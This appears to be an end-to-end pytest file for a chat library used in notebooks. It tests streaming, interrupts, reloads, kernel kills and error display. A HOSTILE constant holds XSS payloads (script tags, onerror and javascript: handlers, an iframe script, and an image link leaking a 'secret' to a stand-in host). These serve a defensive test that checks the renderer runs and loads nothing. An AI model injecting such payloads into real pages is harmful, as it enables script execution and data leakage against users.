"""The session a person has: ask in a cell, then interrupt, edit, reload, close, restart, kill."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.e2e.lab import Notebook
from tests.servers import Provider
from tests.test_in_kernel import until_stored

pytestmark = pytest.mark.e2e

Open = Callable[..., Notebook]

ASK = "reply = chat.send('Three days in Lisbon?')"
SLEEP = "print('sleeps')\ntime.sleep(600)"
ANSWER = """\
## Three days

| Day | Where |
| --- | --- |
| 1 | **Alfama** |
| 2 | Belém |

```python
print("pastel de nata")
```

On the third: Sintra."""
HOSTILE = """\
<script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2">
[link](javascript:window.__pwned=3) ![leak](https://leak.invalid/?q=secret)

<iframe srcdoc="<script>parent.__pwned = 4</script>"></iframe>

The end."""


def opening(provider: Provider) -> str:
    """The first cell of each notebook."""
    model = f"get_model('openai-chat/test', base_url={provider.url!r}, api_key='x')"
    imports = "import os, time\nfrom chatkit import Chat, get_model"
    return f"{imports}\nchat = Chat('trip', model={model}, system='Be brief.')\nprint(os.getpid())"


def test_an_answer_streams_live_while_another_cell_sleeps(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer(ANSWER, gated=True)
    notebook = open_notebook(opening(provider), ASK, SLEEP)
    notebook.run(0)
    notebook.run(1)
    notebook.wait_text(1, "Waiting for")
    notebook.screenshot("stream-1-waiting")
    notebook.run(2, wait=False)
    notebook.wait_text(2, "sleeps")
    answer.release(10)
    notebook.wait_text(1, "Where")
    assert "Alfama" not in notebook.text(1)
    notebook.screenshot("stream-2-live-while-a-cell-sleeps")
    answer.open()
    notebook.wait_text(1, "On the third: Sintra.")
    assert notebook.output(1).locator("table td strong").first.inner_text() == "Alfama"
    notebook.wait_text(1, "complete")
    assert notebook.running(2)
    assert notebook.text(2) == "sleeps"
    notebook.screenshot("stream-3-complete")
    notebook.interrupt()
    notebook.wait_idle()
    assert len(provider.requests) == 1


def test_the_saved_notebook_holds_the_whole_answer_as_markdown(
    open_notebook: Open, provider: Provider
) -> None:
    provider.answer(ANSWER)
    notebook = open_notebook(opening(provider), ASK)
    notebook.run_all()
    notebook.wait_text(1, "complete")
    notebook.wait_for_good(1)
    output, *below = notebook.save()["cells"][1]["outputs"]  # below there is one if it took long
    assert all(each["data"] == {"text/plain": []} for each in below)
    assert set(output["data"]) == {"text/markdown", "text/plain"}
    assert "".join(output["data"]["text/markdown"]).startswith(ANSWER)
    notebook.close_tab()
    notebook.shut_down_kernel()
    notebook.open()
    notebook.wait_text(1, "On the third: Sintra.")
    assert "Error displaying widget" not in notebook.text(1)
    notebook.screenshot("saved-and-reopened-without-a-kernel")


def test_an_interrupt_ends_the_waiting_cell_and_the_answer_goes_on(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer("Alfama Belém Sintra", gated=True)
    notebook = open_notebook(opening(provider), ASK, "print('waits')\nreply.wait()")
    notebook.run(0)
    notebook.run(1)
    notebook.run(2, wait=False)
    notebook.wait_text(2, "waits")  # an interrupt before it begins is none
    answer.release()
    notebook.wait_text(1, "Alfama")
    assert notebook.running(2)
    notebook.interrupt()
    notebook.wait_idle()
    assert "KeyboardInterrupt" in notebook.text(2)
    notebook.wait_text(1, "Alfama")
    notebook.screenshot("interrupt-1-the-wait-has-ended")
    answer.open()
    notebook.wait_text(1, "Alfama Belém Sintra")
    notebook.wait_text(1, "complete")
    notebook.screenshot("interrupt-2-the-answer-went-on")
    assert (len(provider.requests), provider.disconnects) == (1, 0)


def test_stop_is_a_button_that_works_while_a_cell_blocks(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer("Alfama Belém Sintra", gated=True)
    notebook = open_notebook(opening(provider), ASK, SLEEP)
    notebook.run(0)
    notebook.run(1)
    notebook.run(2, wait=False)
    notebook.wait_text(2, "sleeps")
    answer.release()
    notebook.wait_text(1, "Alfama")
    notebook.press(1, "Stop")
    notebook.wait_text(1, "stopped")
    provider.until(lambda: provider.disconnects == 1)
    assert notebook.running(2)
    assert "Alfama" in notebook.text(1)
    notebook.screenshot("stop")
    notebook.interrupt()
    notebook.wait_idle()


def test_a_cell_run_again_asks_nothing_and_an_edited_one_asks_once(
    open_notebook: Open, provider: Provider
) -> None:
    notebook = open_notebook(
        opening(provider), ASK, "[m.text for m in chat.branches(chat.messages[0])]"
    )
    notebook.run_all()
    notebook.wait_text(1, "Answer to: Three days in Lisbon?")
    notebook.wait_text(1, "complete")
    first = notebook.text(1)
    notebook.run(1)
    assert (notebook.text(1), len(provider.requests)) == (first, 1)
    notebook.edit(1, "reply = chat.send('Three days in Porto?')")
    notebook.run(1)
    notebook.wait_text(1, "Answer to: Three days in Porto?")
    notebook.run(2)
    assert notebook.text(2) == "['Three days in Lisbon?', 'Three days in Porto?']"
    notebook.screenshot("edit-and-run-again")
    assert len(provider.requests) == 2


def test_a_page_reloaded_mid_stream_shows_everything_so_far_and_goes_on(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer(ANSWER, gated=True)
    notebook = open_notebook(opening(provider), ASK)
    notebook.run_all()
    notebook.save()
    answer.release(10)
    notebook.wait_text(1, "Where")
    notebook.reload()
    notebook.wait_text(1, "Where")
    notebook.screenshot("reload-1-so-far")
    answer.release(8)
    notebook.wait_text(1, "Alfama")
    answer.open()
    notebook.wait_text(1, "On the third: Sintra.")
    notebook.wait_text(1, "complete")
    notebook.screenshot("reload-2-complete")
    assert len(provider.requests) == 1


def test_a_tab_closed_mid_stream_shows_the_whole_answer_when_it_comes_back(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer(ANSWER, gated=True)
    notebook = open_notebook(opening(provider), ASK, "chat.wait()\nreply.status")
    notebook.run(0)
    notebook.run(1)
    notebook.save()
    answer.release(10)
    notebook.wait_text(1, "Where")
    notebook.close_tab()
    answer.open()
    provider.until(lambda: provider.answered == 1)
    notebook.open()
    notebook.wait_text(1, "On the third: Sintra.")
    notebook.screenshot("tab-closed-and-back")
    notebook.run(2)
    assert notebook.text(2) == "'complete'"
    notebook.run(1)
    notebook.wait_text(1, "On the third: Sintra.")
    assert len(provider.requests) == 1


def test_restart_and_run_all_asks_nothing_and_shows_every_answer(
    open_notebook: Open, provider: Provider
) -> None:
    notebook = open_notebook(opening(provider), ASK, "chat.send('And with children?')")
    notebook.run_all()
    notebook.wait_text(2, "complete")
    before = [notebook.text(1), notebook.text(2)]
    notebook.restart_and_run_all()
    notebook.wait_text(2, "Answer to: And with children?")
    assert [notebook.text(1), notebook.text(2)] == before
    assert "Answer to: Three days in Lisbon?" in before[0]
    notebook.screenshot("restart-and-run-all")
    assert len(provider.requests) == 2


def test_a_killed_kernel_loses_nothing_that_had_arrived(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer("Alfama Belém Sintra Cascais Faro", gated=True)
    notebook = open_notebook(opening(provider), ASK, until_stored("Sintra"))
    notebook.run(0)
    notebook.run(1)
    notebook.save()
    answer.release(3)
    notebook.wait_text(1, "Alfama Belém Sintra")
    notebook.run(2)
    notebook.screenshot("kill-1-before")
    notebook.kill_kernel(int(notebook.text(0)))
    notebook.screenshot("kill-2-killed")
    notebook.run_all()
    notebook.wait_text(1, "Alfama Belém Sintra")
    notebook.wait_text(1, "Interrupted")
    assert len(provider.requests) == 1
    notebook.screenshot("kill-3-run-all")
    notebook.press(1, "Resume")
    notebook.wait_text(1, "complete")
    notebook.screenshot("kill-4-resumed")
    assert len(provider.requests) == 2


def test_hostile_markdown_runs_nothing_and_loads_nothing(
    open_notebook: Open, provider: Provider
) -> None:
    answer = provider.answer(HOSTILE, gated=True)
    notebook = open_notebook(opening(provider), ASK)
    notebook.run_all()
    answer.release(len(HOSTILE.split()) - 1)
    notebook.wait_text(1, "The ")
    notebook.screenshot("hostile-1-live")
    answer.open()
    notebook.wait_text(1, "complete")
    notebook.save()
    notebook.screenshot("hostile-2-saved")
    notebook.reload()
    notebook.wait_text(1, "The end.")
    assert notebook.output(1).locator("iframe, script, img").count() == 0
    assert notebook.output(1).locator("a[href^='javascript']").count() == 0
    assert notebook.page.evaluate("window.__pwned") is None
    assert notebook.foreign_requests() == []


def test_an_error_is_a_readable_box_and_not_a_traceback(
    open_notebook: Open, provider: Provider
) -> None:
    provider.refuse(401, {"error": {"message": "Incorrect API key provided: x."}})
    notebook = open_notebook(opening(provider), ASK)
    notebook.run_all()
    notebook.wait_text(1, "Incorrect API key provided: x.")
    assert "Traceback" not in notebook.text(1)
    notebook.screenshot("error")
